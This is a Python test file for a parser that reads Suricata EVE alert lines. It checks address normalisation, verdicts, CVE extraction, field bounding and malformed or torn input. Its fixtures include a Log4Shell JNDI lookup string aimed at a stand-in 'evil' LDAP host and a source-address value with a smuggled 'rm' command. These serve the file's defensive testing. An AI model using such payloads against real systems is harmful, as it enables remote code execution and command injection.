"""EVE lines as Suricata 7.0.10 writes them, and as nobody should."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from appliance.alerts.eve import (
    LINE_LIMIT,
    PAYLOAD_LIMIT,
    RAW_LIMIT,
    find_cves,
    load_event,
    normalise_address,
    parse_event,
    shrink_event,
    split_torn,
)
from appliance.alerts.model import EveAlert, Malformed, Opener, Verdict
from appliance.alerts.quick import Sighting, parse_line
from steering.model import Family
from tests.support.eve import build_eve, render_eve


def parse_alert(**changes: Any) -> EveAlert:
    alert = parse_event(render_eve(**changes))
    assert isinstance(alert, EveAlert), alert
    return alert


def test_an_alert_of_the_engine_is_read_in_full() -> None:
    alert = parse_alert()
    assert alert.at == pytest.approx(1700000000.03)
    assert (alert.source_address, alert.source_port) == ("10.9.0.1", 40000)
    assert (alert.destination_address, alert.destination_port) == ("10.9.0.2", 80)
    assert (alert.protocol, alert.family) == ("tcp", Family.IPV4)
    assert (alert.direction, alert.opener) == ("to_server", Opener.SOURCE)
    assert alert.verdict is Verdict.BLOCKED
    assert (alert.signature.sid, alert.signature.rev, alert.signature.severity) == (1, 2, 1)
    assert alert.cves == ("CVE-2021-44228",)
    assert alert.affected_products == ("Apache_Log4j",)
    assert alert.http is not None
    assert alert.http.url == "/x?a=${jndi:ldap://evil/a}"
    assert alert.payload_printable.endswith("\r\n\r\n")
    assert (alert.app_proto, alert.flow_id) == ("http", 1261577830)


def test_addresses_are_brought_to_their_shortest_text() -> None:
    alert = parse_alert(
        src_ip="fd00:0000:0000:0000:0000:0000:0000:0001",
        dest_ip="fd00:0000:0000:0000:0000:0000:0000:0002",
        proto="IPv6-ICMP",
    )
    assert (alert.source_address, alert.destination_address) == ("fd00::1", "fd00::2")
    assert (alert.family, alert.protocol) == (Family.IPV6, "icmp")


def test_a_packet_of_the_server_was_opened_by_its_destination() -> None:
    ends = {"src_ip": "10.9.0.2", "src_port": 80, "dest_ip": "10.9.0.1", "dest_port": 40000}
    assert parse_alert(**ends, direction="to_client").opener is Opener.DESTINATION
    assert parse_alert(**ends, direction="to_client", flow=None).opener is Opener.DESTINATION
    assert parse_alert(**ends, direction=None, flow=None).opener is None


@pytest.mark.parametrize(
    ("action", "verdict", "expected"),
    [
        ("blocked", {"action": "drop"}, Verdict.BLOCKED),
        ("allowed", {"action": "alert"}, Verdict.ALLOWED),
        # Another rule dropped the packet that this one only alerted on.
        ("allowed", {"action": "drop"}, Verdict.BLOCKED),
        ("blocked", {"action": "drop", "reject": ["tcp-reset"]}, Verdict.BLOCKED),
        ("blocked", None, Verdict.BLOCKED),
        ("allowed", None, Verdict.ALLOWED),
        ("allowed", "drop", Verdict.ALLOWED),
    ],
)
def test_the_verdict_is_what_became_of_the_packet(
    action: str, verdict: Any, expected: Verdict
) -> None:
    alert = {**build_eve()["alert"], "action": action}
    assert parse_alert(alert=alert, verdict=verdict).verdict is expected


@pytest.mark.parametrize(
    ("spelling", "expected"),
    [
        (["CVE_2021_44228"], ("CVE-2021-44228",)),
        (["cve-2014-6271", "2014_7169"], ("CVE-2014-6271", "CVE-2014-7169")),
        ("2014-6271", ("CVE-2014-6271",)),
        (["CVE_2021_44228, CVE_2021_45046"], ("CVE-2021-44228", "CVE-2021-45046")),
        (["CVE_2021_44228", "CVE-2021-44228"], ("CVE-2021-44228",)),
        (["2021_12_10", "none", 7, {"a": 1}], ()),
        (None, ()),
    ],
)
def test_cves_in_every_spelling(spelling: Any, expected: tuple[str, ...]) -> None:
    assert find_cves(spelling) == expected


@pytest.mark.parametrize("kind", ["flow", "stats", "drop", "http", "something-new"])
def test_other_events_are_passed_over(kind: str) -> None:
    assert parse_event(render_eve(event_type=kind)) is None


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        (b"", "not JSON"),
        (b"{", "not JSON"),
        (b"[1]", "not an object"),
        (b"[" * 100_000, "nested too deep"),
        (b'{"event_type":"alert","x":' + b"9" * 5000 + b"}", "not JSON"),
        (b'{"event_type":"alert","x":NaN}', "NaN is no number"),
        (b'{"event_type":"alert","x":1e999}', "1e999 is no number"),
        (b'{"event_type":7}', "no event_type"),
        (b'{"event_type":"alert"}', "no alert object"),
        (render_eve(timestamp="yesterday"), "no timestamp"),
        (render_eve(timestamp="2023-11-14T22:13:20"), "without a zone"),
        (render_eve(src_ip="10.9.0.1; rm"), "src_ip is no address"),
        (render_eve(src_ip=7), "src_ip is no address"),
        (render_eve(dest_ip="fe80::1%eth0"), "dest_ip is no address"),
        (render_eve(alert={"signature_id": True}), "no signature_id"),
        (render_eve(alert={"signature_id": 2**70}), "no signature_id"),
        (b"x" * LINE_LIMIT, "longer than"),
    ],
)
def test_what_is_no_event_is_said_to_be_none(line: bytes, reason: str) -> None:
    event = parse_event(line)
    assert isinstance(event, Malformed)
    assert reason in event.reason
    assert len(event.excerpt) <= 120


def test_every_field_is_bounded_and_printable() -> None:
    alert = parse_alert(
        alert={"signature_id": 1, "signature": "a\x1b[2J\x00" + "b" * 9000, "severity": 10**9},
        payload="QUFB" * 9000,
        payload_printable="\x00" + "c" * 9000,
        http={"url": "d" * 99_999, "hostname": ["no"], "http_method": "G\nET"},
        src_port=70000,
        flow_id=2**80,
    )
    assert alert.signature.text.startswith("a\ufffd[2J\ufffd")
    assert len(alert.signature.text) == 512
    assert alert.signature.severity == 3
    assert len(alert.payload) % 4 == 0
    assert len(alert.payload) <= PAYLOAD_LIMIT * 4 / 3
    assert alert.payload_printable[0] == "\ufffd"
    assert len(alert.payload_printable) == PAYLOAD_LIMIT
    assert alert.http is not None
    assert (len(alert.http.url), alert.http.hostname, alert.http.method) == (2048, "", "G\ufffdET")
    assert (alert.source_port, alert.flow_id) == (None, None)
    assert len(alert.raw) <= RAW_LIMIT
    assert load_event(alert.raw)["alert"]["signature_id"] == 1


def test_an_event_behind_a_torn_one_is_found() -> None:
    torn, whole = render_eve()[:300], render_eve(src_port=41000)
    assert split_torn(torn + whole) == (torn, whole)
    fault, alert = parse_line(torn + whole)
    assert isinstance(fault, Malformed)
    assert isinstance(alert, Sighting)
    assert alert.source_port == 41000


def test_an_event_that_lacks_only_its_newline_is_kept() -> None:
    first, second = parse_line(render_eve(src_port=1) + render_eve(src_port=2))
    assert isinstance(first, Sighting)
    assert isinstance(second, Sighting)
    assert (first.source_port, second.source_port) == (1, 2)


def test_traffic_cannot_forge_an_event_in_a_torn_line() -> None:
    forged = render_eve(src_ip="10.66.66.66").decode()
    line = render_eve(payload_printable=forged)
    assert split_torn(line) is None
    assert len(parse_line(line[:-1])) == 1


def test_a_torn_line_followed_by_another_kind_of_event_is_just_torn() -> None:
    (fault,) = parse_line(render_eve()[:100] + render_eve(event_type="flow"))
    assert isinstance(fault, Malformed)


def test_shrinking_leaves_out_the_bulkiest_first() -> None:
    event = build_eve(packet="p" * 5000, payload="q" * 5000)
    text, omitted = shrink_event(event, 4000)
    assert omitted == ("packet", "payload")
    assert json.loads(text)["alert"] == event["alert"]
    assert shrink_event(event, 10**6)[1] == ()


@given(st.integers(50, 5000), st.dictionaries(st.text(max_size=8), st.text(max_size=400)))
def test_shrinking_always_fits_and_stays_json(limit: int, extra: dict[str, str]) -> None:
    text, _ = shrink_event({**extra, **build_eve()}, limit)
    assert len(text) <= max(limit, 60)
    assert isinstance(json.loads(text), dict)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner),
    max_leaves=8,
)


@given(st.sampled_from(sorted(build_eve())), JSON)
def test_any_value_in_any_field_gives_an_alert_that_can_be_stored_or_a_fault(
    key: str, value: Any
) -> None:
    event = parse_event(json.dumps({**build_eve(), key: value}).encode())
    if isinstance(event, EveAlert):
        for text in (event.signature.text, event.payload_printable, event.raw, event.protocol):
            text.encode()
            assert "\x00" not in text


@given(st.sampled_from(["signature", "signature_id", "metadata", "gid", "category"]), JSON)
def test_any_value_in_any_field_of_the_rule_does_no_harm(key: str, value: Any) -> None:
    alert = {**build_eve()["alert"], key: value}
    event = parse_event(json.dumps({**build_eve(), "alert": alert}).encode())
    assert event is not None
    assert "\x00" not in getattr(getattr(event, "signature", None), "text", "")


@given(st.binary(max_size=300))
def test_any_bytes_do_no_harm(line: bytes) -> None:
    parse_line(line)


@pytest.mark.parametrize("text", ["", "1.2.3", "fe80::1%1", "::ffff:1.2.3.4.5", "localhost"])
def test_what_is_no_address(text: str) -> None:
    with pytest.raises(ValueError, match=r".*"):
        normalise_address(text)
